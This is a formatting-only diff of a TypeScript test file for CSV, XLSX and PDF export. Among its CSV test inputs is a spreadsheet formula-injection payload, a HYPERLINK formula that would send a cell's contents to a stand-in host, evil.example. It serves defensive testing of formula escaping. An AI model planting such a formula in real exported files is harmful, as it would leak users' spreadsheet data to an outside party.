@@ -85,7 +85,16 @@ describe('CSV', () => {
 
 describe('formulas', () => {
   // Text a spreadsheet would run as a formula (OWASP "CSV injection"), and typed negative numbers that must stay numbers.
-  const texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTab', '\rReturn', 'Plain', "'Quoted"];
+  const texts = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    '+1+2',
+    '-2+3',
+    '@SUM(A1:A2)',
+    '\tTab',
+    '\rReturn',
+    'Plain',
+    "'Quoted",
+  ];
   const formulaColumns: ExportColumn<string>[] = [
     { header: 'Text', value: (text) => text },
     { header: 'Amount', value: () => moneyCell('-1250.75', 'TL') },
@@ -161,12 +170,15 @@ describe('XLSX', () => {
 
 describe('PDF', () => {
   async function lines(bytes: Buffer) {
-    const document = await getDocument({ data: new Uint8Array(bytes), useSystemFonts: false, isEvalSupported: false }).promise;
+    const document = await getDocument({ data: new Uint8Array(bytes), useSystemFonts: false, isEvalSupported: false })
+      .promise;
     const items: string[] = [];
     for (let number = 1; number <= document.numPages; number += 1) {
       const content = await (await document.getPage(number)).getTextContent();
       // pdf.js reads the no-break space that holds an amount together as a plain space.
-      items.push(...content.items.map((item) => ('str' in item ? item.str.replace(/\u00a0/g, ' ') : '')).filter(Boolean));
+      items.push(
+        ...content.items.map((item) => ('str' in item ? item.str.replace(/\u00a0/g, ' ') : '')).filter(Boolean),
+      );
     }
     const pages = document.numPages;
     await document.destroy();
